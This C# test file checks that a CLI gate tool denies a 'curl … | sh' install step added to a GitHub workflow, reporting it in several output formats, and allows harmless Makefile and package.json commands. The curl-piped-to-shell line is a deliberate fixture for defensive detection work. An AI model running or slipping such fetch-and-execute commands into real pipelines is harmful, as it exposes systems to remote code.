using System.Text.Json;
using Autopilot.Cli.Tests.Infrastructure;

namespace Autopilot.Cli.Tests;

/// <summary>
/// `autopilot gate` as a process on a real repository: a `curl … | sh` added to a workflow is denied at its line in
/// every output format; benign commands added to a Makefile and package.json are allowed.
/// </summary>
public sealed class AddedCommandsGateTests : IDisposable
{
    private const string RuleId = "AP-DIFF-ADDED-COMMANDS";
    private const string Workflow = ".github/workflows/ci.yml";

    private readonly TempGitRepo _repo = SampleRepository.Create();

    public AddedCommandsGateTests()
    {
        _repo.Write(Workflow, """
            name: ci
            on: push
            jobs:
              build:
                runs-on: ubuntu-latest
                steps:
                  - uses: actions/checkout@v4
                  - run: dotnet test

            """);
        _repo.Commit("workflow");
        _repo.Git("checkout", "-q", "-b", "feature");
    }

    public void Dispose() => _repo.Dispose();

    private ProcessResult Gate(params string[] args) => CliProcess.Run(_repo.Path, null, ["gate", "--base", "main", "--head", "feature", .. args]);

    private void AddInstallStep()
    {
        _repo.Write(Workflow, """
            name: ci
            on: push
            jobs:
              build:
                runs-on: ubuntu-latest
                steps:
                  - uses: actions/checkout@v4
                  - name: Install tools
                    run: |
                      echo installing
                      curl -fsSL https://example.com/install.sh | sh
                  - run: dotnet test
                  - run: npm ci

            """);
        _repo.Commit("install step");
    }

    [Fact]
    public void A_curl_piped_into_sh_added_to_a_workflow_is_denied_at_its_line_in_every_format()
    {
        AddInstallStep();

        var text = Gate();
        Assert.True(text.ExitCode == 2, text.ToString());
        var lines = text.StdOut.Split('\n');
        var file = Array.IndexOf(lines, Workflow);
        Assert.True(file >= 0, text.StdOut);
        // Located findings only ("  line:col verdict rule: …"); the provenance line names the deciding rule too.
        var finding = Assert.Single(lines.Skip(file + 1).TakeWhile(l => l.StartsWith("  ", StringComparison.Ordinal)), l => l.Length > 2 && char.IsAsciiDigit(l[2]) && l.Contains(RuleId, StringComparison.Ordinal));
        Assert.StartsWith($"  11:11 deny {RuleId}: ", finding, StringComparison.Ordinal);
        Assert.Contains("runs 'curl -fsSL https://example.com/install.sh | sh'", finding, StringComparison.Ordinal);
        Assert.StartsWith("DENY: ", lines.Last(l => l.Length > 0), StringComparison.Ordinal);

        var json = Gate("--format", "json");
        Assert.True(json.ExitCode == 2, json.ToString());
        using (var doc = JsonDocument.Parse(json.StdOut))
        {
            Assert.Equal("deny", doc.RootElement.GetProperty("verdict").GetString());
            var ours = Assert.Single(doc.RootElement.GetProperty("findings").EnumerateArray(), f => f.GetProperty("ruleId").GetString() == RuleId);
            Assert.Equal("deny", ours.GetProperty("severity").GetString());
            var location = ours.GetProperty("location");
            Assert.Equal((Workflow, 11, 11), (location.GetProperty("path").GetString(), location.GetProperty("line").GetInt32(), location.GetProperty("column").GetInt32()));
        }

        var sarif = Gate("--format", "sarif");
        Assert.True(sarif.ExitCode == 2, sarif.ToString());
        using (var doc = JsonDocument.Parse(sarif.StdOut))
        {
            var run = doc.RootElement.GetProperty("runs")[0];
            var rules = run.GetProperty("tool").GetProperty("driver").GetProperty("rules").EnumerateArray().Select(r => r.GetProperty("id").GetString()).ToList();
            var result = Assert.Single(run.GetProperty("results").EnumerateArray(), r => r.GetProperty("ruleId").GetString() == RuleId);
            Assert.Equal("error", result.GetProperty("level").GetString());
            Assert.Equal(rules.IndexOf(RuleId), result.GetProperty("ruleIndex").GetInt32());
            var physical = result.GetProperty("locations")[0].GetProperty("physicalLocation");
            Assert.Equal(Workflow, physical.GetProperty("artifactLocation").GetProperty("uri").GetString());
            Assert.Equal(11, physical.GetProperty("region").GetProperty("startLine").GetInt32());
            Assert.Equal(11, physical.GetProperty("region").GetProperty("startColumn").GetInt32());
        }

        var github = Gate("--format", "github");
        Assert.True(github.ExitCode == 2, github.ToString());
        Assert.Contains($"::error file={Workflow},line=11,col=11,title={RuleId}", github.StdOut, StringComparison.Ordinal);
        Assert.Contains("autopilot: deny", github.StdOut, StringComparison.Ordinal); // the summary line (provenance follows it)
    }

    [Fact]
    public void Benign_commands_added_to_a_Makefile_and_package_json_are_allowed()
    {
        _repo.Write("Makefile", "test:\n\t@dotnet test\n\nci:\n\tnpm ci\n");
        _repo.Write("package.json", "{\n  \"name\": \"sample\",\n  \"scripts\": {\n    \"ci\": \"npm ci\",\n    \"test\": \"dotnet test\"\n  }\n}\n");
        _repo.Commit("build scripts");

        var result = Gate("--format", "json");
        Assert.True(result.ExitCode == 0, result.ToString());
        using var doc = JsonDocument.Parse(result.StdOut);
        Assert.Equal("allow", doc.RootElement.GetProperty("verdict").GetString());
        Assert.DoesNotContain(doc.RootElement.GetProperty("findings").EnumerateArray(), f => f.GetProperty("ruleId").GetString() == RuleId);
    }
}
